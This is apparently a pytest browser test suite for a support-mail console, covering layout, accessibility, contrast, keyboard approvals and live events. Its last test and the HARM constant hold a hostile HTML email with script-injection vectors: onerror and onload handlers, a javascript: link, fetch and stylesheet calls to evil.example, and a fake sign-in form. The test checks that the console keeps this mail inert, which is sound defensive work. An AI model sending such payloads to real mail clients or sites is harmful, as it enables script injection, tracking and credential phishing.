"""The console in a real browser: with and without a script, by keyboard alone, on two widths, and with mail that means harm."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass

import pytest

from postroom import Postroom
from postroom.testing import World
from postroom_server import app
from postroom_server.demo import made_up
from tests.pages.devtools import Tab, tab
from tests.postroom_server.conftest import listening

pytestmark = [pytest.mark.servers, pytest.mark.timeout(120), pytest.mark.xdist_group("chromium")]

PAGES = (
    "",
    "/threads/{thread}",
    "/approvals",
    "/approvals/p1",
    "/plans",
    "/deliveries",
    "/limits",
    "/quarantine",
    "/events",
)
OUTSIDE = """[...document.querySelectorAll("body *")].filter(e => {
  const box = e.getBoundingClientRect();
  return box.width && !e.closest(".skip, .off, .trail, .snippet") && (box.right > innerWidth + 1 || box.left < -1);
}).map(e => e.tagName + "." + e.className)"""
FAINT = """(() => {
  const parts = colour => { const c = document.createElement("canvas").getContext("2d", {willReadFrequently: true});
    c.fillStyle = colour; c.fillRect(0, 0, 1, 1); return [...c.getImageData(0, 0, 1, 1).data]; };
  const light = ([r, g, b]) => [r, g, b].map(v => v / 255).map(v => v <= .04045 ? v / 12.92 : ((v + .055) / 1.055) ** 2.4)
    .reduce((sum, v, at) => sum + v * [.2126, .7152, .0722][at], 0);
  const ground = e => parts(getComputedStyle(e).backgroundColor);
  const behind = e => !e ? [255, 255, 255, 255] : ground(e)[3] === 255 ? ground(e) : behind(e.parentElement);
  const words = e => [...e.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
  return [...document.querySelectorAll("body *")].filter(e => words(e) && e.getClientRects().length && !e.closest(".off, .skip"))
    .map(e => [light(parts(getComputedStyle(e).color)), light(behind(e)), e])
    .map(([one, other, e]) => [(Math.max(one, other) + .05) / (Math.min(one, other) + .05), e])
    .filter(([ratio]) => ratio < 4.5).map(([ratio, e]) => ratio.toFixed(2) + " " + e.outerHTML.slice(0, 120));
})()"""
HARM = """<html><head><meta http-equiv=refresh content="0;url=https://evil.example/m"><base href="https://evil.example/">
<style>@import "https://evil.example/s.css"; body { background: url(https://evil.example/b) }</style>
<link rel=stylesheet href="https://evil.example/l.css"><link rel=prefetch href="https://evil.example/p"></head>
<body onload="top.document.title='taken'" background="https://evil.example/bg">
<script>top.document.title = 'taken'; fetch('https://evil.example/f')</script>
<img src="https://evil.example/i.png" onerror="top.document.title='taken'"><img src=x onerror="parent.document.title='taken'">
<svg onload="top.document.title='taken'"><image href="https://evil.example/v"/></svg>
<p style="position:fixed;inset:0;background:url(https://evil.example/st)">A letter.</p>
<iframe src="https://evil.example/if"></iframe><object data="https://evil.example/o"></object>
<video src="https://evil.example/v" autoplay></video>
<form action="https://evil.example/f"><input autofocus name=key><button>Sign in</button></form>
<a href="javascript:top.document.title='taken'">one</a> <a href="https://evil.example/a">https://bank.example</a>
</body></html>"""


@dataclass
class Desk:
    """A room with made-up mail, its console, and a key that may do everything there."""

    world: World
    room: Postroom
    url: str

    def key(self, *scopes: str) -> str:
        return self.room.keys.create("Eva", scopes=scopes or ("read", "approve", "admin")).secret.get_secret_value()

    @property
    def thread(self) -> str:
        return next(thread.id for thread in self.room.threads() if thread.subject == "Charged twice")


@pytest.fixture
async def desk() -> AsyncIterator[Desk]:
    with made_up() as (world, room):
        async with listening(app(room)) as url:
            yield Desk(world, room, f"{url}/console")


@asynccontextmanager
async def signed_in(desk: Desk, *scopes: str, scripts: bool = True, secret: str = "") -> AsyncIterator[Tab]:
    async with tab(scripts=scripts) as page:
        await page.open(f"{desk.url}/sign-in")
        await page.until("document.activeElement.id === 'key'")  # `autofocus` waits for the first picture
        await page.write(secret or desk.key(*scopes))
        await page.press("Enter", leads=True)
        yield page


def foreign(page: Tab, desk: Desk) -> list[str]:
    """What the page asked of anybody else."""
    own = desk.url.removesuffix("/console")
    return [url for url in page.asked if not url.startswith((own, "data:", "about:"))]


async def test_every_page_fits_both_widths_and_the_browser_has_nothing_to_complain_about(desk: Desk) -> None:
    async with signed_in(desk) as page:
        seen = {}
        for width in (1280, 400):
            await page.size(width)
            for path in PAGES:
                await page.open(desk.url + path.format(thread=desk.thread))
                await page.find("document.querySelectorAll('details').forEach(each => { each.open = true; })")
                seen[width, path] = await page.find(f"[document.documentElement.scrollWidth, {OUTSIDE}]")

    assert seen == {(width, path): [width, []] for width, path in seen}
    assert page.said == []
    assert foreign(page, desk) == []


async def test_long_names_stay_within_a_narrow_screen(desk: Desk) -> None:
    """The choice of a mailbox once was as wide as the longest name, and pushed its button off a phone's screen."""
    desk.room.create_mailbox("customers-of-the-northern-branch-who-wait-for-a-second-answer")
    key = desk.room.keys.create("Eva of the northern branch, who decides there", scopes=["read"])

    async with signed_in(desk, secret=key.secret.get_secret_value()) as page:
        await page.size(400)
        await page.open(desk.url)
        threads = await page.find(f"[document.documentElement.scrollWidth, {OUTSIDE}]")
        lines = await page.find("""[...document.querySelectorAll("button")].map(e => {
            const words = document.createRange(); words.selectNodeContents(e); return words.getClientRects().length; })""")
        await page.open(f"{desk.url}/limits")
        under_its_bar = await page.find("""[...document.querySelectorAll(".meter")].map(e =>
            e.children[2].getBoundingClientRect().left === e.children[1].getBoundingClientRect().left)""")

    assert threads == [400, []]
    assert set(lines) == {1}
    assert set(under_its_bar) == {True}


async def test_what_can_be_reached_is_named_and_shows_that_it_is(desk: Desk) -> None:
    async with signed_in(desk) as page:
        for path in PAGES:
            await page.open(desk.url + path.format(thread=desk.thread))
            found = await page.find("""({
                unnamed: [...document.querySelectorAll(
                    "input:not([type=hidden]), textarea, select, button, a[href], summary"
                )].filter(e => !(e.labels?.[0] || e.getAttribute("aria-label") || e.textContent.trim())).map(e => e.outerHTML),
                headings: [...document.querySelectorAll("h1")].length,
                landmarks: ["header", "nav", "main", "footer"].filter(each => !document.querySelector(each)),
                lang: document.documentElement.lang, twice: [...document.querySelectorAll("[id]")].map(e => e.id)
                    .filter((id, at, all) => all.indexOf(id) !== at)})""")

            assert found == {"unnamed": [], "headings": 1, "landmarks": [], "lang": "en", "twice": []}, path
            await page.press("Tab")
            assert await page.focused() == "Skip to the content"
            assert await page.find("getComputedStyle(document.activeElement).outlineStyle") == "solid"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
async def test_words_stand_out_from_what_is_behind_them(desk: Desk, dark: bool) -> None:
    """WCAG 2.2, 1.4.3: 4.5 to 1 at least."""
    async with signed_in(desk) as page:
        await page.size(1280, dark=dark)
        for path in PAGES:
            await page.open(desk.url + path.format(thread=desk.thread))
            assert await page.find(FAINT) == [], path
        faint = "rgb(90, 90, 90)" if dark else "rgb(128, 128, 128)"
        await page.find(f"void (document.querySelector('h1').style.color = '{faint}')")
        assert len(await page.find(FAINT)) == 1


async def test_a_held_refund_is_approved_by_keyboard_alone_and_leaves(desk: Desk) -> None:
    ada = desk.world.people["ada@example.com"]
    before = len(ada.received)

    async with signed_in(desk) as page:
        await page.tab_to("Approvals")
        await page.press("Enter", leads=True)
        await page.tab_to("Re: Charged twice")
        await page.press("Enter", leads=True)
        await page.tab_to("Why, or what you tell the agent")
        await page.write("the bank confirmed it")
        await page.tab_to("✓ Approve and send")
        await page.press("Enter", leads=True)
        told = await page.find("document.querySelector('[role=status]').textContent")
    desk.world.settle()

    assert "Approved. p1 leaves as" in told
    assert [mail.text.strip().splitlines()[2] for mail in ada.received[before:]] == [
        "we refund 400 EUR to your card. It takes three to five days."
    ]
    decided = desk.room.approvals.get("p1")
    assert (decided.state, decided.decided_by, decided.why) == ("approved", "Eva", "the bank confirmed it")
    assert page.said == []


async def test_a_rejected_refund_stays_and_its_agent_hears_why(desk: Desk) -> None:
    heard = []
    desk.room.on_message("billing")(lambda message: heard.append(message.id))
    before = len(desk.world.people["ada@example.com"].received)

    async with signed_in(desk, scripts=False) as page:
        await page.open(f"{desk.url}/approvals/p1")
        await page.tab_to("Why, or what you tell the agent")
        await page.write("refund 40, not 400")
        await page.tab_to("✕ Reject")
        await page.press("Enter", leads=True)
    desk.world.settle()

    assert len(desk.world.people["ada@example.com"].received) == before
    assert (desk.room.approvals.get("p1").state, desk.room.approvals.get("p1").why) == (
        "rejected",
        "refund 40, not 400",
    )
    assert heard != []
    assert "refund 40, not 400" in desk.room.mailbox("billing").thread(desk.thread).held[-1].why


async def test_without_a_script_everything_can_be_read(desk: Desk) -> None:
    async with signed_in(desk, scripts=False) as page:
        await page.open(f"{desk.url}/threads/{desk.thread}")
        thread = await page.tell("Runtime.evaluate", expression="document.body.innerText", returnByValue=True)
        await page.open(f"{desk.url}/events")
        events = await page.tell("Runtime.evaluate", expression="document.body.innerText", returnByValue=True)

    for words in (
        "Ada Lovelace",
        "support handed the thread to billing",
        "Which of the two charges is refunded?",
        "✓ sent",
    ):
        assert words in thread["result"]["value"]
    assert "Load the page again to see what is new." in events["result"]["value"]
    assert "by key k1 support agent" in events["result"]["value"]


async def test_events_come_by_themselves_where_a_script_may_run(desk: Desk) -> None:
    async with signed_in(desk) as page:
        await page.open(f"{desk.url}/events")
        await page.until("document.getElementById('live').textContent.startsWith('● Live')")
        desk.room.pause_mailbox("outreach")
        await page.until("document.querySelector('.events .fresh .what')?.textContent === 'mailbox paused'")
        await page.open(f"{desk.url}/threads/{desk.thread}")
        desk.room.approvals.reject("p1", by="Dora")
        await page.until("!document.getElementById('news').hidden")

    assert page.said == []


async def test_hostile_mail_stays_inert_and_asks_nobody_for_anything(desk: Desk) -> None:
    desk.world.person("Eve <eve@evil.example>").write(
        "support@acme.test", subject="<img src=x onerror=document.title='taken'>", text="A letter.", html=HARM
    )
    desk.world.settle()
    held = [each.message.id for each in desk.room.quarantine.list()]
    threads = [thread for thread in desk.room.threads() if "taken" in thread.subject]
    paths = [f"/quarantine/{each}" for each in held]
    paths += [f"/messages/{desk.room.thread(thread.id).messages[0].id}" for thread in threads]

    async with signed_in(desk) as page:
        for path in paths:
            await page.open(desk.url + path)
            await page.find("document.querySelectorAll('details').forEach(each => { each.open = true; })")
            await page.find("new Promise(done => setTimeout(done, 300))")
            assert "taken" not in await page.find("document.title")
            assert await page.find("[...document.querySelectorAll('iframe')].every(f => f.contentDocument === null)")

    assert len(paths) >= 2
    assert foreign(page, desk) == []
    assert page.said == []
